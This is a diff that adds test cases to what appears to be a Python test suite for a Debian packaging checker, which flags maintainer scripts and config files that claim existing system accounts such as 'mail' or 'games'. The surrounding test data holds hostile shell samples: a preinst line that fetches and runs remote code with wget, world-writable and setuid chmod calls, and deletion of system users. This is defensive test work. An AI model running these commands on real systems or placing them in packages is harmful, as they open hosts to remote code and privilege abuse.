@@ -213,6 +213,12 @@ BROKEN = [
     ),
     ("taken-account", UNIT, "`Group=mail`", [file(UNIT, service("Group=mail"))]),
     (
+        "taken-account",
+        "/usr/lib/sysusers.d/hello.conf",
+        "makes the account `mail`",
+        [file("/usr/lib/sysusers.d/hello.conf", 'u mail - "Hello" /var/lib/hello\n')],
+    ),
+    (
         "shared-name",
         UNIT,
         "`StateDirectory=docker`",
@@ -456,6 +462,12 @@ SCRIPTS = [
     ("script-downloads", "preinst", '#!/bin/sh\nset -e\nsh -c "$(wget -qO- http://a/b)"\n', "wget"),
     ("script-opens", "preinst", "#!/bin/sh\nset -e\nchmod -R 777 /var/lib/hello\n", "chmod -R 777"),
     ("script-opens", "preinst", "#!/bin/sh\nset -e\nchmod u+s /usr/bin/hello\n", "chmod u+s"),
+    (
+        "taken-account",
+        "preinst",
+        "#!/bin/sh\nset -e\nuseradd --system \\\n  --shell /bin/sh games >/dev/null\n",
+        "makes the account `games`",
+    ),
     ("removes-of-others", "preinst", "#!/bin/sh\nset -e\nuserdel -r mail || :\n", "`mail`"),
     ("removes-of-others", "preinst", "#!/bin/sh\nset -e\ndelgroup --system adm\n", "`adm`"),
     (
